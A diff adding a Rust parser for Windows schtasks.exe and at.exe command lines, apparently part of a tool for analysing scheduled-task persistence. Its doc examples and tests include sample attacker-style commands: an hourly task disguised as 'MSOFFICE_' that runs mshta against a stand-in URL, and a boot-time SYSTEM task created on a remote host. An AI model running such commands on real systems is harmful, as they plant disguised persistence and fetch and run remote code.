@@ -1,0 +1,260 @@
+//! Command lines of `schtasks.exe` and `at.exe`.
+
+use super::taskxml::{Principal, TaskAction, TaskDefinition, Trigger, TriggerKind};
+use crate::time::Interval;
+
+/// Splits a Windows command line into arguments (double quotes group; they are removed).
+///
+/// # Example
+/// ```
+/// use beaconstat::split_command_line;
+/// assert_eq!(split_command_line(r#"schtasks /tr "mshta.exe https://x/y" /f"#),
+///            ["schtasks", "/tr", "mshta.exe https://x/y", "/f"]);
+/// ```
+pub fn split_command_line(s: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut in_q = false;
+    let mut any = false;
+    for c in s.chars() {
+        match c {
+            '"' => {
+                in_q = !in_q;
+                any = true;
+            }
+            c if c.is_whitespace() && !in_q => {
+                if any {
+                    out.push(core::mem::take(&mut cur));
+                    any = false;
+                }
+            }
+            c => {
+                cur.push(c);
+                any = true;
+            }
+        }
+    }
+    if any {
+        out.push(cur);
+    }
+    out
+}
+
+/// The verb of a `schtasks.exe` invocation.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
+#[non_exhaustive]
+pub enum SchtasksVerb {
+    /// `/Create`.
+    Create,
+    /// `/Change`.
+    Change,
+    /// `/Delete`.
+    Delete,
+    /// `/Run`.
+    Run,
+    /// `/End`.
+    End,
+    /// `/Query` (enumeration, not a change).
+    Query,
+}
+
+/// A parsed `schtasks.exe` (or `at.exe`) command line.
+///
+/// # Example
+/// ```
+/// use beaconstat::{Interval, SchtasksCommand, SchtasksVerb};
+/// let c = SchtasksCommand::parse(
+///     r#""C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://h/i.txt" /F"#,
+/// ).unwrap();
+/// assert_eq!(c.verb, Some(SchtasksVerb::Create));
+/// assert_eq!(c.task_name.as_deref(), Some("MSOFFICE_"));
+/// assert_eq!(c.definition().period(), Some(Interval::from_secs(3600)));
+/// ```
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
+#[non_exhaustive]
+pub struct SchtasksCommand {
+    /// The verb (`None` for `at.exe`, which always creates).
+    pub verb: Option<SchtasksVerb>,
+    /// True for `at.exe`.
+    pub at: bool,
+    /// `/TN`.
+    pub task_name: Option<String>,
+    /// `/TR` (or `at`'s command).
+    pub task_run: Option<String>,
+    /// `/SC` (upper-cased).
+    pub schedule: Option<String>,
+    /// `/MO`.
+    pub modifier: Option<String>,
+    /// `/RU`.
+    pub run_as: Option<String>,
+    /// `/XML` file.
+    pub xml_file: Option<String>,
+    /// `/S` remote system (or `at \\host`).
+    pub remote_system: Option<String>,
+    /// `/ST` start time (or `at`'s time).
+    pub start_time: Option<String>,
+}
+
+impl SchtasksCommand {
+    /// Parses a command line whose program is `schtasks(.exe)` or `at(.exe)`; `None` otherwise.
+    pub fn parse(command_line: &str) -> Option<SchtasksCommand> {
+        let args = split_command_line(command_line);
+        let prog = args.first()?;
+        let name = prog.rsplit(['\\', '/']).next().unwrap_or(prog).to_ascii_lowercase();
+        let name = name.strip_suffix(".exe").unwrap_or(&name);
+        let mut c = SchtasksCommand::default();
+        if name == "at" {
+            c.at = true;
+            let mut rest = args[1..].iter().peekable();
+            while let Some(a) = rest.next() {
+                if let Some(h) = a.strip_prefix("\\\\") {
+                    c.remote_system = Some(h.to_owned());
+                } else if a.starts_with('/') {
+                    continue;
+                } else if c.start_time.is_none() && a.contains(':') {
+                    c.start_time = Some(a.clone());
+                } else {
+                    let mut cmd = vec![a.clone()];
+                    cmd.extend(rest.by_ref().cloned());
+                    c.task_run = Some(cmd.join(" "));
+                }
+            }
+            return Some(c);
+        }
+        if name != "schtasks" {
+            return None;
+        }
+        let mut i = 1;
+        while i < args.len() {
+            let a = args[i].to_ascii_lowercase();
+            let val = args.get(i + 1).cloned();
+            let mut takes = true;
+            match a.as_str() {
+                "/create" => (c.verb, takes) = (Some(SchtasksVerb::Create), false),
+                "/change" => (c.verb, takes) = (Some(SchtasksVerb::Change), false),
+                "/delete" => (c.verb, takes) = (Some(SchtasksVerb::Delete), false),
+                "/run" => (c.verb, takes) = (Some(SchtasksVerb::Run), false),
+                "/end" => (c.verb, takes) = (Some(SchtasksVerb::End), false),
+                "/query" => (c.verb, takes) = (Some(SchtasksVerb::Query), false),
+                "/tn" => c.task_name = val,
+                "/tr" => c.task_run = val,
+                "/sc" => c.schedule = val.map(|v| v.to_ascii_uppercase()),
+                "/mo" => c.modifier = val,
+                "/ru" => c.run_as = val,
+                "/xml" => c.xml_file = val,
+                "/s" => c.remote_system = val,
+                "/st" => c.start_time = val,
+                "/u" | "/p" | "/rp" | "/sd" | "/ed" | "/d" | "/m" | "/i" | "/et" | "/du" | "/ri" | "/rl" | "/fo" => {}
+                _ => takes = false,
+            }
+            i += if takes { 2 } else { 1 };
+        }
+        Some(c)
+    }
+
+    /// True when the command creates or changes a task.
+    pub fn is_change(&self) -> bool {
+        self.at || matches!(self.verb, Some(SchtasksVerb::Create | SchtasksVerb::Change))
+    }
+
+    /// The task name with a leading `\` (`at` jobs have none: `None`).
+    pub fn normalized_task_name(&self) -> Option<String> {
+        self.task_name.as_deref().map(normalize_task_name)
+    }
+
+    /// The task definition the command line implies: `/TR` as an Exec action, `/SC` + `/MO` as
+    /// a trigger (MINUTE → repetition of `/MO` minutes, HOURLY → hours, DAILY/WEEKLY → every
+    /// `/MO` days/weeks, ONSTART → boot, ONLOGON → logon, ONEVENT → event, ONCE → time),
+    /// `/RU` as the principal.
+    pub fn definition(&self) -> TaskDefinition {
+        let mut d = TaskDefinition {
+            enabled: true,
+            ..TaskDefinition::default()
+        };
+        if let Some(tr) = &self.task_run {
+            let parts = split_command_line(tr);
+            if let Some((cmd, rest)) = parts.split_first() {
+                d.actions.push(TaskAction::Exec {
+                    command: cmd.clone(),
+                    arguments: if rest.is_empty() { None } else { Some(rest.join(" ")) },
+                    working_directory: None,
+                });
+            }
+        }
+        let mo: i64 = self
+            .modifier
+            .as_deref()
+            .and_then(|m| m.parse().ok())
+            .unwrap_or(1)
+            .max(1);
+        let sc = self.schedule.as_deref().unwrap_or(if self.at { "ONCE" } else { "" });
+        let kind = match sc {
+            "MINUTE" | "HOURLY" | "ONCE" => Some(TriggerKind::Time),
+            "DAILY" => Some(TriggerKind::Daily),
+            "WEEKLY" => Some(TriggerKind::Weekly),
+            "MONTHLY" => Some(TriggerKind::Monthly),
+            "ONSTART" => Some(TriggerKind::Boot),
+            "ONLOGON" => Some(TriggerKind::Logon),
+            "ONIDLE" => Some(TriggerKind::Idle),
+            "ONEVENT" => Some(TriggerKind::Event),
+            _ => None,
+        };
+        if let Some(kind) = kind {
+            let mut t = Trigger::new(kind);
+            t.start_boundary = self.start_time.clone();
+            match sc {
+                "MINUTE" => t.repetition = Some(Interval::from_secs(60 * mo)),
+                "HOURLY" => t.repetition = Some(Interval::from_secs(3600 * mo)),
+                "DAILY" | "WEEKLY" => t.every = u32::try_from(mo).ok(),
+                _ => {}
+            }
+            d.triggers.push(t);
+        }
+        d.principal = Principal {
+            user_id: self.run_as.clone(),
+            ..Principal::default()
+        };
+        d.uri = self.normalized_task_name();
+        d
+    }
+}
+
+/// `Name` → `\Name`; `\Folder\Name` unchanged; `/` separators become `\`.
+pub(crate) fn normalize_task_name(n: &str) -> String {
+    let n = n.trim().replace('/', "\\");
+    if n.starts_with('\\') { n } else { format!("\\{n}") }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn schtasks_variants() {
+        let c = SchtasksCommand::parse(r#"schtasks  /create /F /tn \Microsoft\Windows\X /tr "C:\Windows\system32\cmd.exe /C notepad.exe" /sc ONSTART /ru system /S WORKSTATION6"#).unwrap();
+        assert_eq!(c.verb, Some(SchtasksVerb::Create));
+        assert_eq!(c.remote_system.as_deref(), Some("WORKSTATION6"));
+        let d = c.definition();
+        assert_eq!(d.triggers[0].kind, TriggerKind::Boot);
+        assert_eq!(d.exec(), Some((r"C:\Windows\system32\cmd.exe", Some("/C notepad.exe"))));
+        assert_eq!(d.principal.user_id.as_deref(), Some("system"));
+        let c = SchtasksCommand::parse(r#""C:\Windows\System32\schtasks.exe" /create /xml c:\t\e.xml /tn elevator"#)
+            .unwrap();
+        assert_eq!(c.xml_file.as_deref(), Some(r"c:\t\e.xml"));
+        assert_eq!(c.normalized_task_name().as_deref(), Some(r"\elevator"));
+        let c = SchtasksCommand::parse("schtasks  /query /xml").unwrap();
+        assert_eq!(c.verb, Some(SchtasksVerb::Query));
+        assert!(!c.is_change());
+        let c = SchtasksCommand::parse("at  13:20 /interactive cmd").unwrap();
+        assert!(c.at && c.is_change());
+        assert_eq!(
+            (c.start_time.as_deref(), c.task_run.as_deref()),
+            (Some("13:20"), Some("cmd"))
+        );
+        assert!(SchtasksCommand::parse("cmd.exe /c schtasks /create").is_none());
+        let c = SchtasksCommand::parse("schtasks /create /sc daily /mo 10 /tn t /tr myapp.exe").unwrap();
+        assert_eq!(c.definition().period(), Some(Interval::from_secs(864_000)));
+    }
+}
